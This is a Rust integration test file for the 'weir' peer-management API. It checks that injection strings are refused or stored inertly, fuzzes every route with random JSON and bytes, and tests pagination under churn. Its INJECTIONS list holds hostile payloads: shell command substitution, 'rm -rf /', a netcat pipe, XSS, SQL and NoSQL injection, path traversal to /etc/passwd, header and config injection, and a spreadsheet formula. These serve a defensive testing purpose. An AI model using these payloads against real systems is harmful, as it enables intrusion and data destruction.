//! What people and programs send that is not meant well, or at all.

#![allow(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

mod common;

use common::{Server, filled};
use proptest::prelude::*;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use tokio::runtime::Runtime;
use weir_api::auth::ACCESS;

/// Texts that do harm where they reach a shell, markup, a query, a path, a format, a header, or a terminal.
const INJECTIONS: &[&str] = &[
    "$(touch /tmp/weir-was-here)",
    "`id`",
    "; rm -rf /",
    "| nc 192.0.2.1 1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{7*7}}",
    "' OR '1'='1",
    "../../etc/passwd",
    "%0d%0aSet-Cookie: a=b",
    "a\r\nSet-Cookie: a=b",
    "a\nPostUp = id",
    "\u{0}",
    "\u{1b}[2J",
    "\u{202e}gnp.exe",
    "\"} 1\nweir_fake{a=\"",
    "=cmd|' /C calc'!A0",
    "{\"$ne\":null}",
    "\u{feff}\u{200b}",
];

// Catches a text that is neither refused by its rule nor kept as it is.
#[tokio::test]
async fn injections_are_refused_or_stay_text() {
    let server = Server::new();
    let who = server.administrator();
    for text in INJECTIONS {
        let uri = filled("/v1/peers/{public_key}");
        for body in [
            json!({"name": text}),
            json!({"name": "a", "groups": [text]}),
            json!({"name": "a", "allowed_ips": [text]}),
            json!({"name": "a", "endpoint": format!("{text}:51820")}),
            json!({"name": "a", "expires_at": text}),
            json!({"name": "a", "preshared_key": text}),
            json!({"name": "a", "public_key": text}),
        ] {
            let answer = server.call("PUT", &uri).by(&who).json(body.clone()).send().await;
            answer.is_problem(422, "invalid");
        }
        let noted = server
            .call("PUT", &uri)
            .by(&who)
            .json(json!({"name": "a", "notes": text}))
            .send()
            .await;
        let harmless = text.chars().all(|c| !c.is_control() || matches!(c, '\n' | '\r'));
        if harmless {
            assert_eq!(noted.value()["notes"], *text);
        } else {
            noted.is_problem(422, "invalid");
        }
        assert_eq!(noted.header("x-content-type-options"), "nosniff");
        for rule in [
            json!({"name": text}),
            json!({"from": [format!("group:{text}")]}),
            json!({"to": [text]}),
        ] {
            let mut rule = rule;
            rule["action"] = json!("deny");
            let answer = server
                .call("PUT", "/v1/rules")
                .by(&who)
                .json(json!({"items": [rule]}))
                .send()
                .await;
            answer.is_problem(422, "invalid");
        }
        for (uri, body) in [
            (
                "/v1/users",
                json!({"name": text, "role": "viewer", "password": "correct horse"}),
            ),
            ("/v1/tokens", json!({"name": text, "role": "viewer"})),
        ] {
            server
                .call("POST", uri)
                .by(&who)
                .json(body)
                .send()
                .await
                .is_problem(422, "invalid");
        }
        // Searched for, they find nothing and stay in no header.
        let encoded: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        for uri in [
            format!("/v1/peers?q={encoded}"),
            format!("/v1/audit?actor={encoded}"),
        ] {
            let answer = server.call("GET", &uri).by(&who).send().await;
            assert_eq!(answer.status, 200, "{text:?}: {}", answer.text());
            assert!(answer.headers.get("set-cookie").is_none());
        }
        for uri in [format!("/v1/users/{encoded}"), format!("/v1/changes/{encoded}")] {
            let answer = server
                .call(if uri.contains("users") { "GET" } else { "DELETE" }, &uri)
                .by(&who)
                .send()
                .await;
            answer.is_problem(404, "not-found");
        }
    }
    assert!(!std::path::Path::new("/tmp/weir-was-here").exists());
}

fn any_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        ".{0,12}".prop_map(Value::from),
        prop::sample::select(vec![
            "10.0.0.0/8",
            "generate",
            "put",
            "viewer",
            "deny",
            "tcp",
            "2026-01-01T00:00:00Z"
        ])
        .prop_map(Value::from),
    ];
    let names = prop::sample::select(vec![
        "name",
        "public_key",
        "preshared_key",
        "groups",
        "allowed_ips",
        "endpoint",
        "persistent_keepalive",
        "disabled",
        "expires_at",
        "notes",
        "operations",
        "op",
        "peer",
        "items",
        "action",
        "from",
        "to",
        "ports",
        "protocol",
        "role",
        "password",
        "new",
        "current",
        "scopes",
        "passphrase",
        "backup",
        "alerts",
        "probe",
        "session_hours",
        "__proto__",
        "",
        "a.b[0]",
    ]);
    leaf.prop_recursive(4, 40, 6, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..5).prop_map(Value::from),
            prop::collection::btree_map(names.clone(), inner, 0..8).prop_map(|members| members
                .into_iter()
                .map(|(name, value)| (name.to_owned(), value))
                .collect()),
        ]
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(40))]

    // Catches a body that brings the server to its knees instead of being refused, on any route.
    #[test]
    fn any_json_is_answered_without_a_server_error(body in any_json()) {
        let failed = Runtime::new().unwrap().block_on(async {
            let server = Server::new();
            let who = server.administrator();
            for access in ACCESS.iter().filter(|access| access.method != "GET") {
                let answer = server.call(access.method, &filled(access.path)).by(&who).json(body.clone()).send().await;
                if answer.status.is_server_error() {
                    return Some(format!("{access:?}: {}", answer.text()));
                }
            }
            None
        });
        prop_assert_eq!(failed, None);
    }

    // Catches bytes that are no JSON, no query and no header, and yet do harm.
    #[test]
    fn any_bytes_are_answered_without_a_server_error(
        body in prop::collection::vec(any::<u8>(), 0..200),
        query in "[ -~]{0,40}",
        header in "[ -~]{0,40}",
    ) {
        let query: String = query.bytes().map(|b| if b.is_ascii_alphanumeric() || b"=&_%".contains(&b) { char::from(b) } else { '+' }).collect();
        let failed = Runtime::new().unwrap().block_on(async {
            let server = Server::new();
            let who = server.administrator();
            for access in ACCESS.iter().filter(|access| access.path != "/v1/events") {
                let mut call = server.call(access.method, &format!("{}?{query}", filled(access.path))).by(&who);
                for name in ["if-match", "if-none-match", "idempotency-key", "accept-encoding", "range"] {
                    call = call.header(name, &header);
                }
                let answer = call.bytes("application/json", body.clone()).send().await;
                if answer.status.is_server_error() {
                    return Some(format!("{access:?}: {}", answer.text()));
                }
            }
            None
        });
        prop_assert_eq!(failed, None);
    }

    // Catches a list that names a peer twice or leaves one out while others come and go between two pages.
    #[test]
    fn each_peer_that_stays_is_listed_once(
        churn in prop::collection::vec((any::<bool>(), 0u8..40), 0..30),
        limit in 1usize..7,
        sort in prop::sample::select(vec!["name", "-name", "public_key", "-public_key", "created_at"]),
    ) {
        Runtime::new().unwrap().block_on(async {
            let server = Server::new();
            let who = server.administrator();
            let key = |n: u8| weir_api::types::Key(weir_abi::key::PublicKey::from_bytes([n; 32]));
            let sample = server.fake.held().peers.values().next().unwrap().1.clone();
            let add = |n: u8| {
                let mut peer = sample.clone();
                peer.public_key = key(n);
                peer.name = Some(format!("p{}", n % 5));
                server.fake.held().peers.insert(key(n), (1, peer));
            };
            server.fake.held().peers.clear();
            (0..20).for_each(add);
            let mut stayed: BTreeSet<String> = (0..20).map(|n| key(n).to_string()).collect();
            let (mut seen, mut cursor, mut churn) = (Vec::new(), String::new(), churn.into_iter());
            for _ in 0..200 {
                let uri = format!("/v1/peers?limit={limit}&sort={sort}&cursor={cursor}");
                let page = server.call("GET", &uri).by(&who).send().await;
                assert_eq!(page.status, 200, "{}", page.text());
                let page = page.value();
                let items = page["items"].as_array().unwrap();
                seen.extend(items.iter().map(|peer| peer["public_key"].as_str().unwrap().to_owned()));
                match churn.next() {
                    Some((true, n)) if !server.fake.held().peers.contains_key(&key(n)) => add(n),
                    Some((false, n)) => {
                        server.fake.held().peers.remove(&key(n));
                        stayed.remove(&key(n).to_string());
                    }
                    Some((true, _)) | None => {}
                }
                let Some(next) = page["next_cursor"].as_str() else {
                    let listed: Vec<&String> = seen.iter().filter(|key| stayed.contains(*key)).collect();
                    let once: BTreeSet<&String> = listed.iter().copied().collect();
                    assert_eq!(listed.len(), once.len(), "listed twice");
                    assert_eq!(once.len(), stayed.len(), "left out");
                    return;
                };
                cursor = next.to_owned();
            }
            panic!("the pages have no end");
        });
    }
}
